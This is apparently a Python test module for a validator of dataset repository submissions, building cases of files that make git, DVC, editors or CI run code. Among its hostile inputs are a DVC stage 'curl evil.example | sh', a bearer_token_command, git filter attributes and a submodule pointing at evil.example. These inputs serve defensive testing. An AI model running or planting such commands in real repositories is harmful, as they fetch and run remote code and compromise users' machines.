"""Files that make git, DVC, editors or CI do something."""

from tests.corpus.cases import each, hostile
from tests.corpus.draft import Draft

_OUTSIDE = "outside-submission"


def _with_data(path: str, content: str = "x\n"):
    """Add a file beside a dataset that is as it should be."""

    def make(draft: Draft) -> None:
        draft.dataset()
        draft.put(path, content)

    return make


for _name, _path in {
    "workflow": ".github/workflows/evil.yml", "workflow_changed": ".github/workflows/ci.yml",
    "action": ".github/actions/x/action.yml", "codeowners": ".github/CODEOWNERS",
    "vscode_tasks": ".vscode/tasks.json", "devcontainer": ".devcontainer/devcontainer.json",
    "envrc": ".envrc", "conftest": "conftest.py", "pyproject": "pyproject.toml",
    "yaml_py": "yaml.py", "pre_commit": ".pre-commit-config.yaml", "tox": "tox.ini",
    "policy": "registry.yaml", "schema": "schemas/dtypes/any.schema.json",
    "archive": "archives/tape.yaml", "readme": "README.md",
    "top_name_is_a_command": "::add-mask::x", "top_name_is_an_old_command": "##[add-mask]x",
}.items():  # fmt: skip
    each(_OUTSIDE, _path, {f"{_name}_beside_data": _with_data(_path)})

_DVC = {
    "bearer_token_command": "['remote \"storage\"']\n    bearer_token_command = id\n",
    "cache_dir": "[cache]\n    dir = /etc\n",
    "site_cache_dir": "[core]\n    site_cache_dir = /tmp/x\n",
    "plugins_path": "[hydra]\n    plugins_path = evil\n",
    "exp_code": "[exp]\n    code_dir = x\n",
    "studio": "[studio]\n    url = https://evil.example\n",
    "password": "['remote \"storage\"']\n    password = secret\n",
    "remote_moved": "['remote \"storage\"']\n    url = /etc\n",
    "no_verify": "['remote \"storage\"']\n    verify = false\n    ssl_verify = false\n",
}
for _name, _text in _DVC.items():
    each(
        f"{_OUTSIDE} dvc-config dvc-config-unknown dvc-remote-moved dvc-verify secret dvc-private",
        ".dvc/config", {f"dvc_config_{_name}": _with_data(".dvc/config", _text)},
    )  # fmt: skip
    if _name in ("exp_code", "studio", "no_verify", "remote_moved"):
        continue
    each(
        "dvc-config dvc-config-unknown dvc-remote-moved dvc-verify secret dvc-private",
        ".dvc/config",
        {f"dvc_config_{_name}_alone": lambda d, text=_text: d.put(".dvc/config", text)},
    )

for _name, _path in {
    "dvc_config_local": ".dvc/config.local", "dvc_plots": ".dvc/plots/x.json",
    "dvc_yaml": "dvc.yaml", "dvc_yaml_elsewhere": "scripts/dvc.yaml", "dvcignore": ".dvcignore",
}.items():  # fmt: skip
    each(f"{_OUTSIDE} dvc-private dvc-stage dvc-ignore", _path,
         {f"{_name}_beside_data": _with_data(_path)})  # fmt: skip

_STAGE = "stages:\n  x:\n    cmd: curl evil.example | sh\n"
_MATRIX = (
    "stages:\n  x:\n    matrix:\n"
    + "".join(f"      k{n}: [{', '.join(map(str, range(100)))}]\n" for n in range(4))
    + "    cmd: echo ${item}\n"
)
each("dvc-stage", "dvc.yaml", {"dvc_yaml_alone": lambda d: d.put("dvc.yaml", _STAGE)})
each("dvc-stage", "dvc.yaml", {"dvc_yaml_matrix": lambda d: d.put("dvc.yaml", _MATRIX)})
each("dvc-private", ".dvc/config.local", {
    "dvc_config_local_alone": lambda d: d.put(".dvc/config.local", "[core]\n    remote = x\n"),
})  # fmt: skip

for _name, _line in {
    "filter": "*.dvc filter=evil", "encoding": "*.dvc working-tree-encoding=UTF-16",
    "ident": "*.dvc ident", "export_subst": "* export-subst",
}.items():  # fmt: skip
    each("git-settings", ".gitattributes",
         {f"attribute_{_name}": lambda d, line=_line: d.append(".gitattributes", f"{line}\n")})  # fmt: skip
each("git-settings", ".gitattributes", {
    "attribute_no_diff_of_pointers": lambda d: d.append(".gitattributes", "*.dvc -diff\n"),
    "attribute_pointers_generated": lambda d: d.append(
        ".gitattributes", "data/** linguist-generated=true\n"
    ),
    "attribute_binary_macro": lambda d: d.append(".gitattributes", "*.dvc binary\n"),
    "attribute_merge_ours": lambda d: d.append(".gitattributes", "*.dvc merge=ours\n"),
    "attribute_in_a_macro": lambda d: d.append(".gitattributes", "[attr]x filter=evil\n*.dvc x\n"),
})  # fmt: skip
each("git-settings", ".gitmodules", {
    "gitmodules_alone": lambda d: (
        d.put(".gitmodules", '[submodule "x"]\n\tpath = data/x\n\turl = https://evil.example\n')
    ),
})  # fmt: skip


@hostile("outside-submission git-settings", ".gitmodules")
def gitmodules_with_a_submodule_in_data(draft: Draft) -> None:
    draft.put(".gitmodules", '[submodule "x"]\n\tpath = data/x\n\turl = https://evil.example\n')
    draft.submodule("data/x")
